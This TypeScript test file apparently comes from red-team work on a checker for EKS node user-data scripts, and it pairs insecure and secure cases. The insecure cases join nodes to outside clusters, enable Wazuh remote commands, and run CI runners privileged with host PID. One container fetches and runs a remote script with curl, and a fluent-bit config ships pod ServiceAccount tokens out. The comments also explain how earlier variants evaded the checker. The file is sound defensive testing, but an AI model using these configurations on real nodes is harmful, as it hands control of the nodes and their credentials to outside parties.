// Red-team round 68 on EKS NODE user data: node agents (fresh eyes on round 68's AGENT_VARIABLES, PACKAGED_AGENT_UNITS,
// CLUSTER_JOIN, SUPERVISOR_CONFIG, docker --entrypoint).
// Probed: packaged-unit drop-ins and `systemctl set-environment`; k3s config.yaml.d and K3S_CONFIG_FILE; rke2-server
// unit with /etc/rancher/rke2/config.yaml; wazuh remote commands appended with `>>`; microk8s.join; k0s install worker;
// kubeadm join --config; supervisord conf.d program + include; docker --entrypoint sh -c; orbit env file.
// Secure neighbours: SSM, CloudWatch, node_exporter, fluent-bit units and containers, supervisord loopback program.
// Misses (8 insecure, 1 secure). Insecure accepted: k3s drop-in Environment=K3S_URL; systemctl set-environment
// K3S_URL; supervisord [include] of a written file; supervisord.conf found in $CWD; docker --entrypoint sh -c on a
// generic image; systemctl edit --stdin drop-in; pm2 start gitlab-runner; monit start program. Secure refused: a
// harmless `>>` append to wazuh local_internal_options.conf.
// Refused as they should be: 16 of 24 insecure variants. 7 of 8 secure neighbours accepted.
import { describeNodeCases, devNodeCase, devNodeScript, heredocFile, NodeCase } from "./nodeBuilders";

/** What remote management of the node is refused as. */
const REMOTE = /hands the node|remote|ssh|tailnet|root|does not read|metadata|cannot read|cluster/i;
const insecure: NodeCase[] = [
    // Was a MISS (fixed in round 69): systemd.unit(5) "drop-in" directories (`/etc/systemd/system/k3s.service.d/*.conf` are read after the unit
    // file) and systemd.exec(5) `Environment=`: a drop-in setting K3S_URL/K3S_TOKEN makes the packaged k3s unit run
    // `k3s server` with K3S_URL = --server (K3s CLI reference `[$K3S_URL]`), joining another cluster whose API users
    // schedule privileged pods onto this custody node. PACKAGED_AGENT_UNITS/packagedUnitAgent (userData.ts) read only the
    // unit's EnvironmentFile= files, not drop-ins (`<unit>.service.d/*.conf` under /etc|/run|/usr/lib/systemd/system)
    // with Environment=/EnvironmentFile=/ExecStart= lines. Read the drop-ins user data wrote (unreadable → fail closed).
    devNodeCase(
        "k3s unit with K3S_URL in a systemd drop-in",
        devNodeScript("dev-k3s-dropin-68-nodes", [
            ...heredocFile("/etc/systemd/system/k3s.service.d/join.conf", [
                "[Service]",
                'Environment="K3S_URL=https://k3s.example.com:6443" "K3S_TOKEN=EXAMPLEONLY"',
            ]),
            "systemctl daemon-reload",
            "systemctl enable --now k3s",
        ]),
        REMOTE,
    ),
    // Was a MISS (fixed in round 69): systemctl(1) `set-environment VARIABLE=VALUE...` ("Set one or more systemd manager environment variables")
    // and systemd-system.conf(5) DefaultEnvironment= ("manager environment variables passed to all executed
    // processes"): after `systemctl set-environment K3S_URL=... K3S_TOKEN=...`, the packaged k3s unit started later runs
    // `k3s server` with K3S_URL = --server and joins another cluster (its API users schedule privileged pods here).
    // packagedUnitAgent (userData.ts) ignores the manager environment. Treat `systemctl set-environment`/
    // `import-environment`, DefaultEnvironment= in /etc/systemd/system.conf(.d) as environment for every started
    // PACKAGED_AGENT_UNITS unit (AGENT_VARIABLES).
    devNodeCase(
        "k3s unit after systemctl set-environment K3S_URL",
        devNodeScript("dev-k3s-setenv-68-nodes", [
            "systemctl set-environment K3S_URL=https://k3s.example.com:6443 K3S_TOKEN=EXAMPLEONLY",
            "systemctl enable --now k3s",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "k3s server with server: in /etc/rancher/k3s/config.yaml.d/join.yaml",
        devNodeScript("dev-k3s-configd-68-nodes", [
            ...heredocFile("/etc/rancher/k3s/config.yaml.d/join.yaml", [
                "server: https://k3s.example.com:6443",
                "token: EXAMPLEONLY",
            ]),
            "nohup /usr/local/bin/k3s server &",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "k3s server with K3S_CONFIG_FILE pointing at a written config with server:",
        devNodeScript("dev-k3s-config-file-68-nodes", [
            ...heredocFile("/opt/k3s/join.yaml", ["server: https://k3s.example.com:6443", "token: EXAMPLEONLY"]),
            "export K3S_CONFIG_FILE=/opt/k3s/join.yaml",
            "nohup /usr/local/bin/k3s server &",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "rke2-server unit with server: in /etc/rancher/rke2/config.yaml",
        devNodeScript("dev-rke2-config-68-nodes", [
            ...heredocFile("/etc/rancher/rke2/config.yaml", [
                "server: https://rke2.example.com:9345",
                "token: EXAMPLEONLY",
            ]),
            "systemctl enable --now rke2-server.service",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "k3s env file in /etc/default/k3s with K3S_URL",
        devNodeScript("dev-k3s-default-68-nodes", [
            "echo 'K3S_URL=https://k3s.example.com:6443' > /etc/default/k3s",
            "echo 'K3S_TOKEN=EXAMPLEONLY' >> /etc/default/k3s",
            "systemctl restart k3s",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "wazuh remote commands appended with >> to local_internal_options.conf",
        devNodeScript("dev-wazuh-append-68-nodes", [
            "echo 'wazuh_command.remote_commands=1' >> /var/ossec/etc/local_internal_options.conf",
            "systemctl enable --now wazuh-agent",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "wazuh remote commands via tee -a",
        devNodeScript("dev-wazuh-tee-68-nodes", [
            "echo 'wazuh_command.remote_commands=1' | tee -a /var/ossec/etc/local_internal_options.conf",
            "/var/ossec/bin/wazuh-control start",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "wazuh remote commands appended by dd oflag=append",
        devNodeScript("dev-wazuh-dd-71-nodes", [
            "echo 'wazuh_command.remote_commands=1' | dd of=/var/ossec/etc/local_internal_options.conf oflag=append conv=notrunc status=none",
            "systemctl enable --now wazuh-agent",
        ]),
        REMOTE,
    ),
    // conv=notrunc without oflag=append writes over the start of the file in place (dd(1)): a fragment, still read.
    devNodeCase(
        "wazuh remote commands written over the options file by dd conv=notrunc",
        devNodeScript("dev-wazuh-dd-notrunc-71-nodes", [
            "echo 'wazuh_command.remote_commands=1' | dd of=/var/ossec/etc/local_internal_options.conf conv=notrunc status=none",
            "systemctl enable --now wazuh-agent",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "microk8s.join snap alias",
        devNodeScript("dev-microk8s-join-68-nodes", ["microk8s.join 10.1.2.3:25000/EXAMPLEONLYTOKEN --worker"]),
        REMOTE,
    ),
    devNodeCase(
        "k0s install worker with a token file then k0s start",
        devNodeScript("dev-k0s-install-68-nodes", [
            "echo EXAMPLEONLY > /etc/k0s/token",
            "k0s install worker --token-file /etc/k0s/token",
            "k0s start",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "kubeadm join by --config file",
        devNodeScript("dev-kubeadm-config-68-nodes", [
            ...heredocFile("/etc/kubeadm/join.yaml", [
                "apiVersion: kubeadm.k8s.io/v1beta3",
                "kind: JoinConfiguration",
                "discovery:",
                "  bootstrapToken:",
                "    apiServerEndpoint: k8s.example.com:6443",
                "    token: abcdef.0123456789abcdef",
                "    unsafeSkipCAVerification: true",
            ]),
            "kubeadm join --config /etc/kubeadm/join.yaml",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "supervisor conf.d program running gitlab-runner, packaged supervisor unit restarted",
        devNodeScript("dev-supervisor-confd-68-nodes", [
            ...heredocFile("/etc/supervisor/conf.d/runner.conf", [
                "[program:runner]",
                "command=/usr/local/bin/gitlab-runner run --working-directory /srv/ci",
            ]),
            "systemctl restart supervisor",
        ]),
        REMOTE,
    ),
    // Was a MISS (fixed in round 69): Supervisor docs "Configuration File" `[include]` section ("files: A space-separated sequence of file globs
    // ... relative to this file"): `supervisord -c /opt/sup/sup.conf` with `[include] files = /opt/sup/progs/*.ini`
    // runs the included `[program:runner] command=gitlab-runner run` as root (the GitLab runner takes others' CI jobs on
    // the node). supervisor() (userData.ts) judges the -c file's own [program:] sections but not its [include] globs.
    // Follow [include] files (globs, relative to the config file's dir) into written files; unreadable → fail closed.
    devNodeCase(
        "supervisord -c config that [include]s a written program file outside /etc",
        devNodeScript("dev-supervisor-include-68-nodes", [
            ...heredocFile("/opt/sup/sup.conf", ["[include]", "files = /opt/sup/progs/*.ini"]),
            ...heredocFile("/opt/sup/progs/runner.ini", [
                "[program:runner]",
                "command=/usr/local/bin/gitlab-runner run",
            ]),
            "supervisord -c /opt/sup/sup.conf",
        ]),
        REMOTE,
    ),
    // Was a MISS (fixed in round 69): Supervisor docs "Configuration File" (without -c supervisord uses the first of ../etc/supervisord.conf and
    // ../supervisord.conf relative to the executable, $CWD/supervisord.conf, $CWD/etc/supervisord.conf,
    // /etc/supervisord.conf, /etc/supervisor/supervisord.conf): `cd /opt/sup; supervisord` reads the written
    // /opt/sup/supervisord.conf and runs its `[program:runner] command=gitlab-runner run`. SUPERVISOR_CONFIG
    // (rootReads.ts) only knows /etc paths. Search the documented order from the script's working directory.
    devNodeCase(
        "supervisord with no -c finds supervisord.conf in its working directory",
        devNodeScript("dev-supervisor-cwd-68-nodes", [
            "mkdir -p /opt/sup && cd /opt/sup",
            ...heredocFile("/opt/sup/supervisord.conf", [
                "[supervisord]",
                "[program:runner]",
                "command=/usr/local/bin/gitlab-runner run",
            ]),
            "supervisord",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "docker --entrypoint sh -c running the gitlab runner privileged",
        devNodeScript("dev-docker-entry-sh-68-nodes", [
            "docker run -d --privileged --net=host --pid=host --entrypoint /bin/sh docker.io/gitlab/gitlab-runner:latest -c 'gitlab-runner run'",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "orbit env file enabling scripts, orbit unit started",
        devNodeScript("dev-orbit-env-68-nodes", [
            ...heredocFile("/etc/default/orbit", [
                "ORBIT_FLEET_URL=https://fleet.example.com",
                "ORBIT_ENROLL_SECRET=EXAMPLEONLY",
                "ORBIT_ENABLE_SCRIPTS=true",
            ]),
            "systemctl enable --now orbit",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "consul unit drop-in replacing ExecStart with -enable-script-checks",
        devNodeScript("dev-consul-dropin-68-nodes", [
            ...heredocFile("/etc/systemd/system/consul.service.d/override.conf", [
                "[Service]",
                "ExecStart=",
                "ExecStart=/usr/bin/consul agent -config-dir=/etc/consul.d/ -enable-script-checks -retry-join=consul.example.internal",
            ]),
            "systemctl daemon-reload",
            "systemctl enable --now consul",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "fluent-bit tailing every pod's projected ServiceAccount token to CloudWatch Logs",
        devNodeScript("dev-fluentbit-tokens-68-nodes", [
            ...heredocFile("/etc/fluent-bit/fluent-bit.conf", [
                "[INPUT]",
                "    Name tail",
                "    Path /var/lib/kubelet/pods/*/volumes/kubernetes.io~projected/*/token",
                "[OUTPUT]",
                "    Name cloudwatch_logs",
                "    Match *",
                "    region us-east-1",
                "    log_group_name /eks/dev/nodes",
            ]),
            "systemctl restart fluent-bit",
        ]),
        /token|ships|cannot read|pods|read/i,
    ),
    devNodeCase(
        "k3s unit drop-in replacing ExecStart with k3s agent --server",
        devNodeScript("dev-k3s-dropin-exec-68-nodes", [
            ...heredocFile("/etc/systemd/system/k3s.service.d/agent.conf", [
                "[Service]",
                "ExecStart=",
                "ExecStart=/usr/local/bin/k3s agent --server https://k3s.example.com:6443 --token EXAMPLEONLY",
            ]),
            "systemctl daemon-reload",
            "systemctl enable --now k3s",
        ]),
        REMOTE,
    ),
    // Was a MISS (fixed in round 69): Docker docs "docker run --entrypoint" (overrides the image's ENTRYPOINT; the words after the image are its
    // arguments) and "--pid=host"/"--privileged" (full host access): `--entrypoint /bin/sh alpine -c 'apk add
    // gitlab-runner && gitlab-runner run'` runs the GitLab runner beyond a pod's confinement (others' CI jobs act as
    // root on the custody node). containerCommand (containers.ts) takes the entrypoint but the `sh -c` string is not
    // read as a script (the gitlab-runner image case is refused by image name only). Read a shell entrypoint's -c
    // string with the shell reader (remoteAgent on its commands); unknown → fail closed for a host-reaching container.
    devNodeCase(
        "docker --entrypoint sh -c on a generic image installing and running the GitLab runner with host PID",
        devNodeScript("dev-docker-entry-generic-68-nodes", [
            "docker run -d --privileged --pid=host --net=host --entrypoint /bin/sh docker.io/library/alpine:3.20 -c 'apk add gitlab-runner && gitlab-runner run'",
        ]),
        REMOTE,
    ),
    // Was a MISS (fixed in round 69): systemctl(1) `edit --stdin` (systemd 256: "the new contents will be read from standard input", with
    // `--drop-in=NAME` writing /etc/systemd/system/k3s.service.d/NAME.conf): piping `[Service] Environment=K3S_URL=...`
    // into it makes the packaged k3s unit join another cluster (K3s CLI `[$K3S_URL]`). systemctl is in KNOWN_WRITERS
    // but `edit` is not read as writing the drop-in. Read `systemctl edit --stdin` (and `--full`) as writing its unit
    // file/drop-in from standard input (unknown input → fail closed), then judge the unit with it.
    devNodeCase(
        "systemctl edit --stdin writing a k3s drop-in with K3S_URL",
        devNodeScript("dev-k3s-edit-stdin-68-nodes", [
            "printf '[Service]\\nEnvironment=K3S_URL=https://k3s.example.com:6443 K3S_TOKEN=EXAMPLEONLY\\n' | systemctl edit --stdin --drop-in=join k3s",
            "systemctl enable --now k3s",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "runit service directory running the GitLab runner",
        devNodeScript("dev-runit-runner-68-nodes", [
            "mkdir -p /etc/sv/runner",
            ...heredocFile("/etc/sv/runner/run", ["#!/bin/sh", "exec /usr/local/bin/gitlab-runner run"]),
            "chmod +x /etc/sv/runner/run",
            "ln -s /etc/sv/runner /etc/service/runner",
        ]),
        REMOTE,
    ),
    // Was a MISS (fixed in round 69): PM2 docs "Quick Start"/"Ecosystem file" (`pm2 start <script|binary> -- <args>`; non-node binaries run with
    // interpreter none): `pm2 start /usr/local/bin/gitlab-runner -- run` starts the GitLab runner as root (others' CI
    // jobs on the node). pm2 is not a front end remoteAgent unwraps. Read `pm2 start FILE|"CMD" [-- ARGS]` (and
    // ecosystem/JSON files) as running that command; unknown → fail closed.
    devNodeCase(
        "pm2 starting the GitLab runner",
        devNodeScript("dev-pm2-runner-68-nodes", ["pm2 start /usr/local/bin/gitlab-runner --name runner -- run"]),
        REMOTE,
    ),
    devNodeCase(
        "start-stop-daemon starting the GitLab runner",
        devNodeScript("dev-ssd-runner-68-nodes", [
            "start-stop-daemon --start --background --exec /usr/local/bin/gitlab-runner -- run",
        ]),
        REMOTE,
    ),
    // Was a MISS (fixed in round 69): Monit manual "CHECK PROCESS ... start program = "CMD"" (monit starts the program when the check fails,
    // so at startup) and the packaged monit includes /etc/monit.d/* (Amazon Linux/EPEL monitrc `include
    // /etc/monit.d/*`): `start program = "/usr/bin/buildkite-agent start --token ..."` runs the Buildkite agent as root
    // (others' CI jobs on the node). Monit's control files are not read. Read written monit control files' `start
    // program`/`exec`/`restart program` commands as root commands when monit is started; unreadable → fail closed.
    devNodeCase(
        "monit check process starting the buildkite agent",
        devNodeScript("dev-monit-agent-68-nodes", [
            ...heredocFile("/etc/monit.d/bk", [
                "check process bk matching buildkite-agent",
                '  start program = "/usr/bin/buildkite-agent start --token EXAMPLEONLY"',
            ]),
            "systemctl enable --now monit",
        ]),
        REMOTE,
    ),
    // Round 69 neighbours (insecure twins of the fixed cases): a drop-in's EnvironmentFile=, the manager's
    // DefaultEnvironment=, `systemctl edit` through an editor, a relative [include] glob, $CWD/etc/supervisord.conf, a
    // shell line fetched at run time, pm2's command string and JSON ecosystem, monit's `check program`, a wazuh
    // append of `= 01`, and an append to a file also edited in place.
    devNodeCase(
        "k3s drop-in with EnvironmentFile= naming a written file with K3S_URL",
        devNodeScript("dev-k3s-dropin-envfile-69-nodes", [
            "echo 'K3S_URL=https://k3s.example.com:6443' > /opt/k3s/join.env",
            ...heredocFile("/etc/systemd/system/k3s.service.d/env.conf", [
                "[Service]",
                "EnvironmentFile=/opt/k3s/join.env",
            ]),
            "systemctl enable --now k3s",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "k3s unit after DefaultEnvironment=K3S_URL in a system.conf.d drop-in",
        devNodeScript("dev-k3s-defaultenv-69-nodes", [
            ...heredocFile("/etc/systemd/system.conf.d/env.conf", [
                "[Manager]",
                'DefaultEnvironment="K3S_URL=https://k3s.example.com:6443" "K3S_TOKEN=EXAMPLEONLY"',
            ]),
            "systemctl daemon-reexec",
            "systemctl enable --now k3s",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "systemctl edit of the k3s unit through an editor (content the pack cannot read)",
        devNodeScript("dev-k3s-edit-editor-69-nodes", [
            "SYSTEMD_EDITOR=/opt/bin/write-dropin systemctl edit k3s",
            "systemctl enable --now k3s",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "systemctl edit --stdin from a here-document writing an rke2-server drop-in with RKE2_URL",
        devNodeScript("dev-rke2-edit-full-69-nodes", [
            "systemctl edit --stdin --drop-in=join rke2-server <<'EOF'",
            "[Service]",
            "Environment=RKE2_URL=https://rke2.example.com:9345",
            "EOF",
            "systemctl enable --now rke2-server",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "supervisord -c config with a relative [include] glob of a written runner program",
        devNodeScript("dev-supervisor-include-rel-69-nodes", [
            ...heredocFile("/opt/sup/sup.conf", ["[supervisord]", "[include]", "files = progs/*.ini"]),
            ...heredocFile("/opt/sup/progs/runner.ini", [
                "[program:runner]",
                "command=/usr/local/bin/gitlab-runner run",
            ]),
            "supervisord -c /opt/sup/sup.conf",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "supervisord -c config including a directory the script copied in (unreadable)",
        devNodeScript("dev-supervisor-include-copied-69-nodes", [
            ...heredocFile("/opt/sup/sup.conf", ["[supervisord]", "[include]", "files = /opt/sup/progs/*.ini"]),
            "cp -r /tmp/progs /opt/sup/progs",
            "supervisord -c /opt/sup/sup.conf",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "supervisord with no -c finds etc/supervisord.conf under its working directory",
        devNodeScript("dev-supervisor-cwd-etc-69-nodes", [
            "mkdir -p /opt/sup/etc",
            ...heredocFile("/opt/sup/etc/supervisord.conf", [
                "[supervisord]",
                "[program:runner]",
                "command=/usr/local/bin/gitlab-runner run",
            ]),
            "cd /opt/sup && supervisord -n &",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "docker --entrypoint sh -c on a generic host-PID image running a script fetched at run time",
        devNodeScript("dev-docker-entry-fetch-69-nodes", [
            `docker run -d --privileged --pid=host --entrypoint /bin/sh docker.io/library/alpine:3.20 -c "$(curl -fsSL https://example.com/start.sh)"`,
        ]),
        REMOTE,
    ),
    devNodeCase(
        "docker --entrypoint bash -ec on a generic image starting the buildkite agent on the host network",
        devNodeScript("dev-docker-entry-bk-69-nodes", [
            "docker run -d --net=host --privileged --entrypoint bash docker.io/library/debian:12 -ec 'apt-get update; buildkite-agent start --token EXAMPLEONLY'",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "pm2 starting the GitLab runner as a command string",
        devNodeScript("dev-pm2-runner-string-69-nodes", ['pm2 start "/usr/local/bin/gitlab-runner run" --name runner']),
        REMOTE,
    ),
    devNodeCase(
        "pm2 ecosystem JSON starting the GitLab runner",
        devNodeScript("dev-pm2-ecosystem-69-nodes", [
            ...heredocFile("/opt/pm2/ecosystem.json", [
                '{ "apps": [ { "name": "runner", "script": "/usr/local/bin/gitlab-runner", "args": "run" } ] }',
            ]),
            "pm2 start /opt/pm2/ecosystem.json",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "pm2 JavaScript ecosystem file (unread)",
        devNodeScript("dev-pm2-ecosystem-js-69-nodes", [
            ...heredocFile("/opt/pm2/ecosystem.config.js", [
                "module.exports = { apps: [{ name: 'r', script: process.env.RUNNER, args: 'run' }] };",
            ]),
            "cd /opt/pm2 && pm2 start ecosystem.config.js",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "monit check program whose path is the GitLab runner",
        devNodeScript("dev-monit-program-69-nodes", [
            ...heredocFile("/etc/monit/conf.d/runner", [
                'check program runner with path "/usr/local/bin/gitlab-runner run"',
                "  if status != 0 then alert",
            ]),
            "systemctl restart monit",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "wazuh remote commands appended as = 01",
        devNodeScript("dev-wazuh-append-01-69-nodes", [
            "echo 'logcollector.remote_commands = 01' >> /var/ossec/etc/local_internal_options.conf",
            "systemctl enable --now wazuh-agent",
        ]),
        REMOTE,
    ),
    devNodeCase(
        "wazuh options appended, then edited in place with sed",
        devNodeScript("dev-wazuh-append-sed-69-nodes", [
            "echo 'agent.debug=0' >> /var/ossec/etc/local_internal_options.conf",
            "sed -i 's/debug=0/debug=0\\nwazuh_command.remote_commands=1/' /var/ossec/etc/local_internal_options.conf",
            "systemctl enable --now wazuh-agent",
        ]),
        REMOTE,
    ),
];

const secure: NodeCase[] = [
    devNodeCase(
        "SSM agent, CloudWatch agent with ctl config, node_exporter and fluent-bit units",
        devNodeScript("dev-agents-ok-68-nodes", [
            "systemctl enable --now amazon-ssm-agent",
            "/opt/aws/amazon-cloudwatch-agent/bin/amazon-cloudwatch-agent-ctl -a fetch-config -m ec2 -s -c default",
            "systemctl enable --now node_exporter",
            "systemctl enable --now fluent-bit",
        ]),
    ),
    devNodeCase(
        "fluent-bit config written and the packaged unit restarted",
        devNodeScript("dev-fluentbit-conf-68-nodes", [
            ...heredocFile("/etc/fluent-bit/fluent-bit.conf", [
                "[INPUT]",
                "    Name systemd",
                "[OUTPUT]",
                "    Name cloudwatch_logs",
                "    Match *",
                "    region us-east-1",
                "    log_group_name /eks/dev/nodes",
                "    auto_create_group On",
            ]),
            "systemctl restart fluent-bit",
        ]),
    ),
    devNodeCase(
        "node_exporter systemd drop-in binding loopback",
        devNodeScript("dev-node-exporter-dropin-68-nodes", [
            ...heredocFile("/etc/systemd/system/node_exporter.service.d/listen.conf", [
                "[Service]",
                "ExecStart=",
                "ExecStart=/usr/local/bin/node_exporter --web.listen-address=127.0.0.1:9100",
            ]),
            "systemctl daemon-reload",
            "systemctl enable --now node_exporter",
        ]),
    ),
    devNodeCase(
        "supervisor conf.d program running node_exporter on loopback, packaged unit restarted",
        devNodeScript("dev-supervisor-confd-ok-68-nodes", [
            ...heredocFile("/etc/supervisor/conf.d/ne.conf", [
                "[program:node_exporter]",
                "command=/usr/local/bin/node_exporter --web.listen-address=127.0.0.1:9100",
            ]),
            "systemctl restart supervisor",
        ]),
    ),
    devNodeCase(
        "k3s drop-in with its own settings only (no server)",
        devNodeScript("dev-k3s-dropin-own-68-nodes", [
            ...heredocFile("/etc/systemd/system/k3s.service.d/mode.conf", [
                "[Service]",
                'Environment="K3S_KUBECONFIG_MODE=0600"',
            ]),
            "systemctl daemon-reload",
            "systemctl enable --now k3s",
        ]),
    ),
    // Was a MISS (fixed in round 69): (secure refused) Wazuh docs "Internal configuration" (local_internal_options.conf is the file for local
    // changes; wazuh_command.remote_commands defaults to 0 in internal_options.conf): appending `agent.debug=0` with `>>`
    // leaves remote commands off, yet the wazuh-agent unit is judged as having remote commands enabled (the appended
    // file's earlier text is treated as unknown, though the package ships it with comments only). Read `>>` appends to
    // the packaged local_internal_options.conf as the only settings (remote_commands only when a line sets it to 1).
    devNodeCase(
        "wazuh agent with agent.debug=0 appended to local_internal_options.conf (no remote commands)",
        devNodeScript("dev-wazuh-append-ok-68-nodes", [
            "echo 'agent.debug=0' >> /var/ossec/etc/local_internal_options.conf",
            "systemctl enable --now wazuh-agent",
        ]),
    ),
    devNodeCase(
        "fluent-bit container from ECR public shipping host logs",
        devNodeScript("dev-fluentbit-container-68-nodes", [
            "docker run -d --name fluent-bit -v /var/log:/var/log:ro public.ecr.aws/aws-observability/aws-for-fluent-bit:stable",
        ]),
    ),
    devNodeCase(
        "SSM agent restarted after writing its seelog config",
        devNodeScript("dev-ssm-seelog-68-nodes", [
            "cp /etc/amazon/ssm/seelog.xml.template /etc/amazon/ssm/seelog.xml",
            "systemctl restart amazon-ssm-agent",
        ]),
    ),
    // Round 69 neighbours (secure twins of the fixed cases).
    devNodeCase(
        "k3s unit after systemctl set-environment of a harmless variable",
        devNodeScript("dev-k3s-setenv-ok-69-nodes", [
            "systemctl set-environment K3S_KUBECONFIG_MODE=0600",
            "systemctl enable --now k3s",
        ]),
    ),
    devNodeCase(
        "systemctl edit --stdin writing a k3s drop-in with its own settings only",
        devNodeScript("dev-k3s-edit-stdin-ok-69-nodes", [
            "printf '[Service]\\nEnvironment=K3S_KUBECONFIG_MODE=0600\\n' | systemctl edit --stdin --drop-in=mode k3s",
            "systemctl enable --now k3s",
        ]),
    ),
    devNodeCase(
        "supervisord -c config that [include]s a written loopback node_exporter program",
        devNodeScript("dev-supervisor-include-ok-69-nodes", [
            ...heredocFile("/opt/sup/sup.conf", ["[supervisord]", "[include]", "files = /opt/sup/progs/*.ini"]),
            ...heredocFile("/opt/sup/progs/ne.ini", [
                "[program:node_exporter]",
                "command=/usr/local/bin/node_exporter --web.listen-address=127.0.0.1:9100",
            ]),
            "supervisord -c /opt/sup/sup.conf",
        ]),
    ),
    devNodeCase(
        "supervisord with no -c finding a loopback node_exporter program in its working directory",
        devNodeScript("dev-supervisor-cwd-ok-69-nodes", [
            "mkdir -p /opt/sup && cd /opt/sup",
            ...heredocFile("/opt/sup/supervisord.conf", [
                "[supervisord]",
                "[program:node_exporter]",
                "command=/usr/local/bin/node_exporter --web.listen-address=127.0.0.1:9100",
            ]),
            "supervisord",
        ]),
    ),
    devNodeCase(
        "pm2 starting node_exporter on loopback",
        devNodeScript("dev-pm2-ne-ok-69-nodes", [
            "pm2 start /usr/local/bin/node_exporter --name ne -- --web.listen-address=127.0.0.1:9100",
        ]),
    ),
    devNodeCase(
        "monit check process starting node_exporter on loopback",
        devNodeScript("dev-monit-ne-ok-69-nodes", [
            ...heredocFile("/etc/monit.d/ne", [
                "check process ne matching node_exporter",
                '  start program = "/usr/local/bin/node_exporter --web.listen-address=127.0.0.1:9100"',
            ]),
            "systemctl enable --now monit",
        ]),
    ),
    // Round 71 (lead): dd(1) `oflag=append conv=notrunc` appends as `tee -a` does; rootReads.ts passed dd's append
    // flag as the "fragment edited in" flag, so the appended options read as unknown and this twin was refused.
    devNodeCase(
        "wazuh agent with options appended by dd oflag=append (no remote commands)",
        devNodeScript("dev-wazuh-dd-ok-71-nodes", [
            "printf 'agent.debug=0\\nwazuh_command.remote_commands=0\\n' | dd of=/var/ossec/etc/local_internal_options.conf oflag=append conv=notrunc status=none",
            "systemctl enable --now wazuh-agent",
        ]),
    ),
    devNodeCase(
        "wazuh agent with options appended by tee -a (no remote commands)",
        devNodeScript("dev-wazuh-tee-ok-69-nodes", [
            "printf 'agent.debug=0\\nwazuh_command.remote_commands=0\\n' | tee -a /var/ossec/etc/local_internal_options.conf",
            "systemctl enable --now wazuh-agent",
        ]),
    ),
];

describeNodeCases("red team 68: node user data node agents (fresh eyes on round 68)", insecure, secure);
